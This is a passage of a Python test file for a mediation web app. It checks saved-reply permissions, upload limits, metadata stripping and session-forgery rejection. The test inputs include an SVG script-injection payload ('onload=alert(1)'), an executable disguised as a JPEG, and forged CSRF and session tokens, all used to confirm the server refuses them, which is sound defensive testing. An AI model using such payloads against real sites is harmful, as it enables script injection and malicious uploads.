    assert (await post_as(olena, one, {"text": "changed"})).status == 403
    assert (await post_as(olena, f"{one}/delete")).status == 403
    assert (await post_as(olga, saved, {"language": "it", "text": "x"})).status == 403
    assert (await olga.get(f"{saved}?language=ar")).status == 403
    assert (await anonymous.get(f"{saved}?language=ar")).status == 401
    assert (await anonymous.post(one, json={"text": "x"})).status == 401
    assert (await post_as(amal, one, {"text": "changed"}, csrf=None)).status == 403
    assert (await post_as(amal, f"{one}/delete", csrf="forged")).status == 403
    assert store.saved_reply(reply["id"])["text"] == arabic

    # Length and language limits, with a message that says which.
    too_long = await post_as(amal, saved, {"language": "ar", "text": "x" * 2001})
    assert too_long.status == 400 and "1 to 2000 characters" in await too_long.text()
    assert (await post_as(amal, saved, {"language": "ar", "text": "   "})).status == 400
    assert (await post_as(amal, saved, {"language": "xx", "text": "x"})).status == 400
    assert (await post_as(amal, one, {"text": "y" * 2001})).status == 400
    assert store.count_saved_replies("ar") == 1

    # Olena may read them (the team's answers, about no one), not change them.
    listed = await (await olena.get(f"{saved}?language=ar")).json()
    assert [r["text"] for r in listed["replies"]] == [arabic] and not listed["may_change"]
    assert set(listed["languages"]) == {"it", "uk"}
    # Its author edits; an admin may change and delete in any language.
    assert (await post_as(amal, one, {"text": arabic + " 9:00"})).status == 200
    assert (await post_as(ada, one, {"text": arabic})).status == 200
    assert (await post_as(ada, saved, {"language": "uk", "text": "Привіт"})).status == 201
    assert (await post_as(ada, f"{one}/delete")).status == 200
    assert store.saved_reply(reply["id"]) is None
    assert (await post_as(amal, f"{one}/delete")).status == 404


# -- a photo or PDF the person sends during a hand-off --------------------------------------

UPLOAD = "/widget/api/attachments"
# A small PNG with a text chunk naming the person: re-encoded, the chunk is gone.
PNG = png_with_text()


def widget_session() -> tuple[str, dict[str, str]]:
    """A person's widget session as the socket.io channel issues it: sender id, headers."""
    session_id, tag = SessionSigner(SESSION_SECRET).issue()
    return f"socketio:{session_id}", {"X-Session-Id": session_id, "X-Session-Tag": tag}


def kept_files(store: Store) -> int:
    with store.engine.connect() as db:
        return db.execute(sa.select(sa.func.count()).select_from(attachments)).scalar()


async def test_a_persons_photo_is_seen_only_by_the_mediator_holding_it(site, store):
    assert b"Amina" in PNG
    sender, session = widget_session()
    handoff_id = open_handoff(store, sender)
    person = await site()
    assert (await (await person.get(UPLOAD, headers=session)).json())["open"] is True
    sent = await person.post(UPLOAD, data=PNG, headers=session)
    assert sent.status == 201
    file_id = (await sent.json())["id"]
    amal, bilal, olga, ada = [await logged_in(site, n) for n in ("amal", "bilal", "olga", "ada")]
    path = f"/desk/api/attachments/{file_id}"
    # Waiting: not even a mediator of its language sees it before claiming.
    assert (await amal.get(path)).status == 403
    assert (await post_as(amal, f"/desk/api/handoffs/{handoff_id}/claim")).status == 200

    shown = await (await amal.get(f"/desk/api/handoffs/{handoff_id}")).json()
    (line,) = [m for m in shown["transcript"] if m["attachment"]]
    assert line["attachment"]["id"] == file_id and line["text"].startswith("📎 Photo (PNG")
    served = await amal.get(path)
    assert served.status == 200 and served.content_type == "image/png"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Disposition"] == f'inline; filename="attachment-{file_id}.png"'
    assert "no-store" in served.headers["Cache-Control"]
    body = await served.read()
    assert body.startswith(b"\x89PNG") and b"Amina" not in body
    assert (await ada.get(path)).status == 200
    # Another mediator of the same language, an operator, nobody logged in.
    for outsider, status in ((bilal, 403), (olga, 403), (await site(), 401)):
        response = await outsider.get(path)
        assert response.status == status and b"PNG" not in await response.read()
    assert (await amal.get("/desk/api/attachments/999")).status == 404

    # A PDF is a download, never shown in the desk's pages.
    pdf = b"%PDF-1.4\n%%EOF\n"
    sent = await person.post(UPLOAD, data=pdf, headers=session)
    served = await amal.get(f"/desk/api/attachments/{(await sent.json())['id']}")
    assert served.content_type == "application/pdf" and await served.read() == pdf
    assert served.headers["Content-Disposition"].startswith("attachment;")


async def test_bad_files_and_forged_sessions_are_refused_and_nothing_is_kept(site, store):
    sender, session = widget_session()
    person = await site()
    # No hand-off open: refused with a clear message.
    response = await person.post(UPLOAD, data=PNG, headers=session)
    assert response.status == 409
    assert (await response.json())["error"] == (
        "A file can be sent only while you talk with a mediator."
    )
    assert (await (await person.get(UPLOAD, headers=session)).json())["open"] is False
    handoff_id = open_handoff(store, sender)
    too_big = b"\x89PNG\r\n\x1a\n" + b"0" * (5 * 1024 * 1024)
    for data, status, says in (
        (b"", 400, "The file is empty."),
        (too_big, 413, "The file is too large: at most 5.0 MB."),
        (b"MZ\x90\x00 a program renamed photo.jpg", 415, "JPEG or PNG"),
        (b"<svg onload=alert(1)>", 415, "JPEG or PNG"),
    ):
        response = await person.post(UPLOAD, data=data, headers=session)
        assert response.status == status and says in (await response.json())["error"]
    # A forged or missing tag, someone else's session id with one's own tag, the
    # person's id in the URL: none of them reaches the person's hand-off.
    _, other = widget_session()
    for headers in (
        {"X-Session-Id": session["X-Session-Id"], "X-Session-Tag": "0" * 64},
        {"X-Session-Id": session["X-Session-Id"]},
        {"X-Session-Id": session["X-Session-Id"], "X-Session-Tag": other["X-Session-Tag"]},
        {},
    ):
        response = await person.post(UPLOAD, data=PNG, headers=headers)
        assert response.status == 403
    response = await person.post(f"{UPLOAD}?session_id={session['X-Session-Id']}", data=PNG)
    assert response.status == 403
    assert kept_files(store) == 0
    assert [m["text"] for m in store.handoff_transcript(handoff_id)] == []
